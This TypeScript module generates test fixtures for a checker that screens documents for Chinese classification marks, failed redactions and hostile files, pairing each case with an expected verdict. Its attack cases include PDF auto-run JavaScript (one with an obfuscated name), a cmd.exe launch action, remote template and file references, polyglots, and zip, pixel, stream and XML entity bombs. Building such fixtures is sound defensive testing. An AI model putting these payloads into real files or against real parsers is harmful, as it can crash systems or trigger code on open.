/** Documents whose point is how they are made: hidden words, failed redactions, attacks. */
import { BlendMode, degrees, PDFDocument, rgb, StandardFonts } from '@cantoo/pdf-lib';
import { zipSync, zlibSync } from 'fflate';
import sharp from 'sharp';
import type { Code, Verdict } from '../../../shared/redaction/codes.ts';
import { draw, encode } from './draw.ts';
import { docx, ofd, p, split, tbl, textBox, watermark, zipped } from './packed.ts';
import { embedded, extraFrom, hex, namedFont, ofPictures, stream, written } from './paper.ts';
import { Chance } from './random.ts';
import { notice } from './scenes.ts';
import { Draft, type Sheet } from './sheet.ts';
import type { Special } from './special.ts';

const plain = (): Draft => notice(new Chance(7));
function statement(change: (draft: Draft) => void): Sheet {
  const draft = plain();
  change(draft);
  return draft;
}

function docxCases(): Special[] {
  const body =
    p('关于开展培训的通知') +
    p('各有关单位：') +
    p('请认真组织专业技术人员参加继续教育培训，确保培训取得实效。') +
    p('某某局') +
    p('2024年3月15日');
  const one = (
    name: string,
    verdict: Verdict,
    code: Code | null,
    make: Special['make'],
  ): Special => ({ name: `docx-${name}`, extension: 'docx', kind: 'docx', verdict, code, make });
  return [
    one('plain', 'clear', null, () => docx({ body })),
    one('mention', 'clear', null, () =>
      docx({
        body:
          body +
          p('严禁上传国家、单位涉密资料以及明确标识“不予公开、依申请公开”等资料。') +
          p('一、机密') +
          p('《秘密》'),
      }),
    ),
    one('lesson-table', 'clear', null, () =>
      docx({
        body:
          p('保密知识') +
          p('国家秘密的密级分为绝密、机密、秘密三级。') +
          tbl([
            ['密级', '后果', '期限'],
            ['绝密', '特别严重', '30年'],
            ['机密', '严重', '20年'],
            ['秘密', '损害', '10年'],
          ]) +
          p('涉密人员应当参加保密教育培训。'),
      }),
    ),
    one('first-line', 'blocked', 'MARK_STATE_SECRET', () => docx({ body: p('机密★1年') + body })),
    one('split-runs', 'blocked', 'MARK_STATE_SECRET', () =>
      docx({ body: split('秘 密 ★ 10 年') + body }),
    ),
    one('header', 'blocked', 'MARK_INTERNAL', () => docx({ body, header: p('内部资料 注意保密') })),
    one('header-level', 'blocked', 'MARK_STATE_SECRET', () => docx({ body, header: p('秘密') })),
    one('footer', 'blocked', 'ATTR_NOT_PUBLIC', () =>
      docx({ body, footer: p('公开属性：不予公开') }),
    ),
    one('text-box', 'blocked', 'MARK_STATE_SECRET', () =>
      docx({ body: body + textBox('绝密★长期') }),
    ),
    one('watermark', 'blocked', 'MARK_INTERNAL', () =>
      docx({ body, header: watermark('内部资料 严禁外传') }),
    ),
    one('comment', 'blocked', 'ATTR_NOT_PUBLIC', () => docx({ body, comments: p('此件不予公开') })),
    one('field', 'blocked', 'MARK_STATE_SECRET', () =>
      docx({
        body:
          p('项目登记表') +
          tbl([
            ['项目名称', '调度研究'],
            ['密级', '秘密'],
            ['承担单位', '某某院'],
          ]),
      }),
    ),
    one('attr-end', 'blocked', 'ATTR_NOT_PUBLIC', () =>
      docx({ body: body + p('（此件依申请公开）') }),
    ),
    one('ticked', 'blocked', 'ATTR_NOT_PUBLIC', () =>
      docx({
        body:
          p('发文稿纸') +
          tbl([
            ['标题', '通知'],
            ['公开属性', '☐主动公开 ☒依申请公开 ☐不予公开'],
          ]),
      }),
    ),
    one('ticked-open', 'clear', null, () =>
      docx({
        body:
          p('发文稿纸') +
          tbl([
            ['标题', '通知'],
            ['公开属性', '☒主动公开 ☐依申请公开 ☐不予公开'],
          ]),
      }),
    ),
    one('unticked', 'review', 'ATTR_UNDECIDED', () =>
      docx({
        body:
          p('发文稿纸') +
          tbl([
            ['标题', '通知'],
            ['公开属性', '☐主动公开 ☐依申请公开 ☐不予公开'],
          ]),
      }),
    ),
    one('property', 'blocked', 'META_MARK', () =>
      docx({ body, properties: { title: '通知', keywords: '密级：机密' } }),
    ),
    one('custom-property', 'blocked', 'META_MARK', () => docx({ body, custom: { 密级: '机密' } })),
    one('vanish', 'review', 'HIDDEN_TEXT', () =>
      docx({ body: body + p('这里有一段看不见的文字', '<w:vanish/>') }),
    ),
    one('vanish-mark', 'blocked', 'MARK_STATE_SECRET', () =>
      docx({ body: p('机密★1年', '<w:vanish/>') + body }),
    ),
    one('white', 'review', 'HIDDEN_TEXT', () =>
      docx({ body: body + p('白色的文字看不见', '<w:color w:val="FFFFFF"/>') }),
    ),
    one('external', 'review', 'EXTERNAL_REFERENCE', () =>
      docx({
        body,
        relations:
          '<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://198.51.100.7/t.dotm" TargetMode="External"/>',
      }),
    ),
    one('embedded', 'review', 'EMBEDDED_FILE', () =>
      docx({ body, files: { 'word/embeddings/oleObject1.bin': 'OLE' } }),
    ),
    one('macro', 'review', 'ACTIVE_CONTENT', () =>
      docx({ body, files: { 'word/vbaProject.bin': 'VBA' } }),
    ),
    one('id', 'review', 'PII_ID_FULL', () =>
      docx({ body: `${body}${p('身份证号：330499199003071017')}` }),
    ),
    one('picture-mark', 'blocked', 'MARK_STATE_SECRET', async () =>
      docx({
        body,
        files: {
          'word/media/image1.jpeg': await encode(
            draw(
              statement((d) => d.words('机密★1年', 80, 110, 16, { face: 'hei' })),
              1.6,
            ),
            { type: 'jpeg', quality: 75 },
          ),
        },
      }),
    ),
    one('picture-plain', 'clear', null, async () =>
      docx({
        body,
        files: { 'word/media/image1.png': await encode(draw(plain(), 1.6), { type: 'png' }) },
      }),
    ),
    one('broken-xml', 'review', 'CORRUPT', () =>
      zipped({
        '[Content_Types].xml': '<Types/>',
        'word/document.xml': '<w:document><w:body><w:p>',
      }),
    ),
  ];
}

function concealedCases(): Special[] {
  const one = (
    name: string,
    verdict: Verdict,
    code: Code | null,
    make: Special['make'],
  ): Special => ({ name: `pdf-${name}`, extension: 'pdf', kind: 'concealed', verdict, code, make });
  const secretLine = '联系人王某某住址某某路十八号';
  const base = (): Draft => {
    const draft = new Draft();
    draft.centred('培 训 证 明', 120, 24).words(`兹证明${secretLine}`, 80, 200, 15);
    draft.paragraph('参加了本年度组织的专题培训，情况属实，特此证明。', 80, 240, 435, 15, 26);
    return draft;
  };
  return [
    one('black-box', 'review', 'BAD_REDACTION', () =>
      namedFont([base().box(120, 186, 230, 20, { fill: '#000000', stroke: null })]),
    ),
    one('white-box', 'review', 'BAD_REDACTION', () =>
      embedded([base().box(120, 186, 230, 20, { fill: '#ffffff', stroke: null })]),
    ),
    one('box-below-is-fine', 'clear', null, () => {
      const draft = new Draft();
      draft.box(70, 180, 400, 30, { fill: '#d8e8ff', stroke: null });
      draft.centred('培 训 证 明', 120, 24).words('课程安排如下', 80, 200, 15);
      return namedFont([draft]);
    }),
    one('highlight-is-fine', 'clear', null, () => {
      const at = extraFrom(1);
      return namedFont([base()], {
        page: `/Annots [${at} 0 R]`,
        objects: [
          '<< /Type /Annot /Subtype /Highlight /Rect [120 630 350 660] /QuadPoints [120 660 350 660 120 630 350 630] /C [1 1 0] >>',
        ],
      });
    }),
    one('black-on-black', 'review', 'BAD_REDACTION', () => {
      const draft = new Draft();
      draft
        .centred('证 明', 120, 24)
        .box(75, 180, 300, 30, { fill: '#000000', stroke: null })
        .words(secretLine, 80, 200, 15);
      return namedFont([draft]);
    }),
    one('white-on-white', 'review', 'HIDDEN_TEXT', () =>
      namedFont([base().words('这是写给机器看的一句话', 80, 400, 14, { colour: '#ffffff' })]),
    ),
    one('white-mark', 'blocked', 'MARK_STATE_SECRET', () =>
      namedFont([base().words('机密★10年', 80, 80, 16, { colour: '#ffffff' })]),
    ),
    one('covered-mark', 'blocked', 'MARK_STATE_SECRET', () =>
      namedFont([
        base()
          .words('秘密★5年', 80, 80, 16)
          .box(70, 60, 120, 26, { fill: '#ffffff', stroke: null }),
      ]),
    ),
    one('outside-page', 'review', 'HIDDEN_TEXT', () =>
      namedFont([base().words('页面之外还有一行文字', 80, 900, 14)]),
    ),
    one('redact-annotation', 'review', 'BAD_REDACTION', () =>
      namedFont([base()], {
        page: `/Annots [${extraFrom(1)} 0 R]`,
        objects: ['<< /Type /Annot /Subtype /Redact /Rect [120 636 350 660] /OC [0 0 0] >>'],
      }),
    ),
    one('square-annotation', 'review', 'BAD_REDACTION', () =>
      namedFont([base()], {
        page: `/Annots [${extraFrom(1)} 0 R]`,
        objects: [
          '<< /Type /Annot /Subtype /Square /Rect [110 630 360 664] /IC [0 0 0] /C [0 0 0] >>',
        ],
      }),
    ),
    one('free-text-mark', 'blocked', 'MARK_INTERNAL', () =>
      namedFont([base()], {
        page: `/Annots [${extraFrom(1)} 0 R]`,
        objects: [
          `<< /Type /Annot /Subtype /FreeText /Rect [80 760 260 790] /DA (/Helv 12 Tf) /Contents ${hex('内部资料 注意保密')} >>`,
        ],
      }),
    ),
    one('bookmark-mark', 'blocked', 'META_MARK', () =>
      namedFont([base()], {
        catalog: `/Outlines ${extraFrom(1)} 0 R`,
        objects: [
          `<< /Type /Outlines /First ${extraFrom(1) + 1} 0 R /Last ${extraFrom(1) + 1} 0 R /Count 1 >>`,
          `<< /Title ${hex('机密★1年')} /Parent ${extraFrom(1)} 0 R >>`,
        ],
      }),
    ),
    one('bookmark-fine', 'clear', null, () =>
      namedFont([base()], {
        catalog: `/Outlines ${extraFrom(1)} 0 R`,
        objects: [
          `<< /Type /Outlines /First ${extraFrom(1) + 1} 0 R /Last ${extraFrom(1) + 1} 0 R /Count 1 >>`,
          `<< /Title ${hex('第一章 国家秘密的范围')} /Parent ${extraFrom(1)} 0 R >>`,
        ],
      }),
    ),
    one('keywords-mark', 'blocked', 'META_MARK', () =>
      embedded([base()], (d) => d.setKeywords(['培训', '内部资料 注意保密'])),
    ),
    one('attachment', 'review', 'EMBEDDED_FILE', () =>
      embedded(
        [base()],
        async (d) =>
          await d.attach(Buffer.from('%PDF-1.4 nothing'), 'note.txt', { mimeType: 'text/plain' }),
      ),
    ),
    one('attachment-marked', 'blocked', 'MARK_STATE_SECRET', () =>
      embedded(
        [base()],
        async (d) => await d.attach(docx({ body: p('机密★1年') + p('正文') }), 'inner.docx', {}),
      ),
    ),
    one('attachment-name', 'blocked', 'META_MARK', () =>
      embedded([base()], async (d) => await d.attach(Buffer.from('x'), '机密★1年.docx', {})),
    ),
    one('layer-off', 'review', 'HIDDEN_LAYER', () =>
      namedFont([base()], {
        catalog: `/OCProperties << /OCGs [${extraFrom(1)} 0 R] /D << /OFF [${extraFrom(1)} 0 R] >> >>`,
        resources: `/Properties << /L1 ${extraFrom(1)} 0 R >>`,
        objects: [`<< /Type /OCG /Name ${hex('底图')} >>`],
        after: '/OC /L1 BDC 100 100 50 50 re f EMC',
      }),
    ),
    one('layer-on', 'clear', null, () =>
      namedFont([base()], {
        catalog: `/OCProperties << /OCGs [${extraFrom(1)} 0 R] /D << /ON [${extraFrom(1)} 0 R] /OFF [] >> >>`,
        resources: `/Properties << /L1 ${extraFrom(1)} 0 R >>`,
        objects: [`<< /Type /OCG /Name ${hex('底图')} >>`],
        after: '/OC /L1 BDC 100 100 50 50 re S EMC',
      }),
    ),
    one('prior-revision', 'review', 'PRIOR_REVISION', () =>
      revised(base(), '参加了另一个培训项目'),
    ),
    one('prior-mark', 'blocked', 'MARK_STATE_SECRET', () =>
      revised(base().words('机密★1年', 80, 80, 16), '培训证明'),
    ),
    one('image-box', 'review', 'BAD_REDACTION_IMAGE', async () => {
      const scan = await encode(draw(plain(), 2), { type: 'jpeg', quality: 80 });
      const document = await PDFDocument.load(await ofPictures([scan], 144));
      document
        .getPage(0)
        .drawRectangle({ x: 90, y: 440, width: 220, height: 30, color: rgb(0, 0, 0) });
      return await document.save();
    }),
    one('searchable-scan', 'clear', null, async () => {
      const scan = await encode(draw(plain(), 2), { type: 'jpeg', quality: 80 });
      const document = await PDFDocument.load(await ofPictures([scan], 144));
      const font = await document.embedFont(StandardFonts.Helvetica);
      document
        .getPage(0)
        .drawText('training certificate 2024', { x: 80, y: 500, size: 12, font, opacity: 0 });
      return await document.save();
    }),
    one('stamp-picture', 'blocked', 'MARK_STATE_SECRET', async () => {
      const mark = new Draft(120, 50);
      mark
        .box(4, 4, 112, 42, { stroke: '#cc1010', weight: 3 })
        .words('机密', 30, 36, 30, { colour: '#cc1010', face: 'heiBold' });
      const png = await encode(draw(mark, 3), { type: 'png' });
      const document = await PDFDocument.load(await embedded([base()]));
      document
        .getPage(0)
        .drawImage(await document.embedPng(png), { x: 400, y: 740, width: 120, height: 50 });
      return await document.save();
    }),
    one('stamp-picture-over-print', 'blocked', 'MARK_STATE_SECRET', async () => {
      const mark = new Draft(150, 50);
      mark
        .box(4, 4, 142, 42, { stroke: '#cc1010', weight: 3 })
        .words('秘密★2年', 16, 35, 24, { colour: '#cc1010', face: 'heiBold' });
      const png = await encode(draw(mark, 3), { type: 'png' });
      const document = await PDFDocument.load(await embedded([base()]));
      document.getPage(0).drawImage(await document.embedPng(png), {
        ...{ x: 250, y: 575, width: 150, height: 50 },
        ...{ rotate: degrees(6), blendMode: BlendMode.Multiply },
      });
      return await document.save();
    }),
    one('owner-password', 'clear', null, async () => {
      const document = await PDFDocument.load(await embedded([base()]));
      document.encrypt({ ownerPassword: 'owner', userPassword: '', permissions: {} });
      return await document.save();
    }),
  ];
}

/** The same file saved once more, with another text on the page. */
function revised(before: Sheet, now: string): Uint8Array {
  const first = namedFont([before]);
  const after = new Draft();
  after.centred('培 训 证 明', 120, 24).words(now, 80, 200, 15);
  const content = namedFont([after]);
  const body = Buffer.from(content).toString('latin1');
  const object = /7 0 obj\n([\s\S]*?)\nendobj/.exec(body)?.[1] ?? '';
  const at = first.length;
  const previous = /startxref\n(\d+)/.exec(Buffer.from(first).toString('latin1'))?.[1] ?? '0';
  const piece = `7 0 obj\n${object}\nendobj\n`;
  const table = `xref\n7 1\n${String(at).padStart(10, '0')} 00000 n \ntrailer\n<< /Size 8 /Root 1 0 R /Prev ${previous} >>\nstartxref\n${at + Buffer.byteLength(piece, 'latin1')}\n%%EOF\n`;
  return Buffer.concat([first, Buffer.from(piece + table, 'latin1')]);
}

function attackCases(): Special[] {
  const one = (
    name: string,
    extension: string,
    verdict: Verdict,
    code: Code | null,
    make: Special['make'],
  ): Special => ({ name: `attack-${name}`, extension, kind: 'attack', verdict, code, make });
  const jpeg = async (): Promise<Uint8Array> =>
    await encode(draw(plain(), 1.5), { type: 'jpeg', quality: 80 });
  return [
    one('zero', 'pdf', 'review', 'EMPTY', () => new Uint8Array(0)),
    one('encrypted', 'pdf', 'review', 'ENCRYPTED', async () => {
      const document = await PDFDocument.load(await embedded([plain()]));
      document.encrypt({ ownerPassword: 'owner', userPassword: 'user', permissions: {} });
      return await document.save();
    }),
    one('truncated', 'pdf', 'review', 'CORRUPT', () => namedFont([plain()]).subarray(0, 700)),
    one('truncated', 'jpg', 'review', 'CORRUPT', async () => (await jpeg()).subarray(0, 9000)),
    one('truncated', 'docx', 'review', 'CORRUPT', () => docx({ body: p('文') }).subarray(0, 900)),
    one('garbage', 'pdf', 'review', 'CORRUPT', () => Buffer.from('这不是一个文件'.repeat(50))),
    one('text', 'txt', 'review', 'UNSUPPORTED_TYPE', () => Buffer.from('机密')),
    one('gif', 'gif', 'review', 'UNSUPPORTED_TYPE', () =>
      Buffer.from('GIF89a\x01\0\x01\0\0\0\0;', 'latin1'),
    ),
    one('program', 'pdf', 'review', 'UNSUPPORTED_TYPE', () =>
      Buffer.concat([Buffer.from('MZ'), Buffer.alloc(400)]),
    ),
    one('wrong-extension', 'pdf', 'clear', null, jpeg),
    one('wrong-extension-marked', 'png', 'blocked', 'MARK_STATE_SECRET', () =>
      namedFont([statement((d) => d.words('机密★1年', 80, 110, 16))]),
    ),
    one('polyglot-zip', 'pdf', 'review', 'POLYGLOT', () =>
      Buffer.concat([namedFont([plain()]), zipSync({ 'a.txt': new Uint8Array(20) })]),
    ),
    one('polyglot-jpeg-pdf', 'jpg', 'review', 'POLYGLOT', async () =>
      Buffer.concat([await jpeg(), namedFont([plain()])]),
    ),
    one('polyglot-head', 'pdf', 'review', 'POLYGLOT', () =>
      Buffer.concat([Buffer.from('<html><script>1</script>\n'), namedFont([plain()])]),
    ),
    one(
      'pixel-bomb',
      'png',
      'review',
      'DECOMPRESSION_BOMB',
      async () =>
        await sharp({
          create: { width: 16000, height: 16000, channels: 3, background: '#fff' },
          limitInputPixels: false,
        })
          .png({ compressionLevel: 9, palette: true, colours: 2 })
          .toBuffer(),
    ),
    one('page-bomb', 'pdf', 'review', 'DECOMPRESSION_BOMB', () => pageBomb()),
    one('stream-bomb', 'pdf', 'review', 'DECOMPRESSION_BOMB', () => streamBomb()),
    one('zip-bomb', 'docx', 'review', 'DECOMPRESSION_BOMB', () =>
      docx({ body: p('文'), files: { 'word/media/image1.bmp': new Uint8Array(120 << 20) } }),
    ),
    one('entity-bomb', 'docx', 'review', 'CORRUPT', () =>
      zipped({
        '[Content_Types].xml': '<Types/>',
        'word/document.xml':
          '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><a>&b;</a>',
      }),
    ),
    one('script', 'pdf', 'review', 'ACTIVE_CONTENT', () =>
      namedFont([plain()], { catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }),
    ),
    one('script-hidden-name', 'pdf', 'review', 'ACTIVE_CONTENT', () =>
      namedFont([plain()], {
        catalog: '/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>',
      }),
    ),
    one('launch', 'pdf', 'review', 'ACTIVE_CONTENT', () =>
      namedFont([plain()], { catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
    ),
    one('remote', 'pdf', 'review', 'EXTERNAL_REFERENCE', () =>
      namedFont([plain()], {
        catalog: '/OpenAction << /S /GoToR /F (http://198.51.100.7/a.pdf) /D [0 /Fit] >>',
      }),
    ),
    one('no-pages', 'pdf', 'review', 'CORRUPT', () =>
      written(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
    ),
    one('blank-page', 'pdf', 'review', 'EMPTY', () => namedFont([new Draft()])),
    one(
      'blank',
      'png',
      'review',
      'EMPTY',
      async () => await encode(draw(new Draft(400, 400), 1), { type: 'png' }),
    ),
    one(
      'blurred',
      'jpg',
      'review',
      'UNREADABLE',
      async () => await encode(draw(plain(), 1.2), { type: 'jpeg', quality: 30, blur: 4.5 }),
    ),
    one(
      'blurred-away',
      'jpg',
      'review',
      'UNREADABLE',
      async () => await encode(draw(plain(), 1.2), { type: 'jpeg', quality: 60, blur: 24 }),
    ),
    one('three-hundred-pages', 'pdf', 'clear', null, () =>
      namedFont(Array.from({ length: 300 }, () => plain())),
    ),
    one('three-hundred-marked-last', 'pdf', 'blocked', 'MARK_STATE_SECRET', () =>
      namedFont([
        ...Array.from({ length: 299 }, () => plain()),
        statement((d) => d.words('秘密★1年', 80, 110, 16)),
      ]),
    ),
    one(
      'gps',
      'jpg',
      'clear',
      null,
      async () =>
        await sharp(await jpeg())
          .withExif({ IFD3: { GPSLatitude: '30/1 45/1 0/1', GPSLatitudeRef: 'N' } })
          .jpeg()
          .toBuffer(),
    ),
    one('ofd-attachment', 'ofd', 'review', 'EMBEDDED_FILE', () =>
      ofd([plain()], { attachment: { name: 'a.bin', bytes: Buffer.from('abc') } }),
    ),
    one('ofd-template-mark', 'ofd', 'blocked', 'MARK_STATE_SECRET', () =>
      ofd([plain()], { template: new Draft().words('机密★1年', 80, 100, 16) }),
    ),
    one('ofd-picture-mark', 'ofd', 'blocked', 'MARK_STATE_SECRET', async () =>
      ofd([new Draft()], {
        picture: await encode(
          draw(
            statement((d) => d.words('机密★1年', 80, 110, 16, { face: 'hei' })),
            2,
          ),
          { type: 'jpeg' },
        ),
      }),
    ),
    one('ofd-title-mark', 'ofd', 'blocked', 'META_MARK', () =>
      ofd([plain()], { title: '机密★1年' }),
    ),
  ];
}

function pageBomb(): Uint8Array {
  const kids = Array.from({ length: 5000 }, () => '3 0 R').join(' ');
  return written([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids}] /Count 100000 >>`,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
  ]);
}

function streamBomb(): Uint8Array {
  const packed = Buffer.from(zlibSync(new Uint8Array(80 << 20), { level: 9 })).toString('latin1');
  return written([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
    stream('/Filter /FlateDecode', packed),
  ]);
}

export const specials: readonly Special[] = [...docxCases(), ...concealedCases(), ...attackCases()];
